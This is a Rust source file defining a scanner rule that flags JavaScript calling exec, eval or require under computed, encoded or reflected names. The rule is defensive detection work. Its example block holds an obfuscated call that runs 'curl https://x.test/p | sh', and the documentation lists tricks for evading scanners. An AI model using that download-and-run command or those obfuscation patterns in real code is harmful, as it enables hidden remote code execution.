use portcullis_core::declare_rule;

declare_rule! {
/// ## What it does
/// Reports a call of a process, code-evaluation or module-loading API whose name is hidden:
/// assembled from pieces (`cp['ex' + 'ec']`, `require('child_' + 'process')`), decoded from
/// base64 or hex (`cp[Buffer.from('ZXhlYw==', 'base64').toString()]`, `atob(…)`), looked up
/// on the global object by name (`globalThis['eval']`), or made through `Reflect.apply`. The
/// call itself is analysed like a plain one (taint, capabilities); this finding is about the
/// hiding.
///
/// ## Why is this bad?
/// Ordinary code names the APIs it calls. Spelling `exec` or `eval` in a way that text search
/// and reviewers miss is what malware does to get past scanners (API obfuscation), so the
/// gate treats it as an obfuscation signal.
///
/// ## Example
/// ```js
/// const cp = require('child_process');
/// cp[Buffer.from('ZXhlYw==', 'base64').toString()]('curl https://x.test/p | sh');
/// ```
///
/// ## Use instead
/// ```js
/// const { execFile } = require('child_process');
/// execFile('git', ['status']);
/// ```
///
/// ## References
/// - <https://cwe.mitre.org/data/definitions/506.html>
/// - <https://attack.mitre.org/techniques/T1027/>
    pub static HIDDEN_CALL = {
        id: "js/hidden-call",
        title: "Hidden call of a sensitive API",
        category: Code,
        severity: High,
        confidence: High,
        summary: "A process, eval or module-loading API is called under a computed, encoded or reflected name.",
        cwe: [506],
        signals: [Obfuscation],
        fixtures: [pos "crates/js/tests/fixtures/hidden/loader.js", neg "crates/js/tests/fixtures/safe/safe-lib.js"],
    }
}

pub const MESSAGE: &str = "`{sink}` is called under a hidden name ({source})";

pub const REMEDIATION: &str = "Call APIs by their plain names; if the package does not need to start processes or evaluate code, remove the call.";
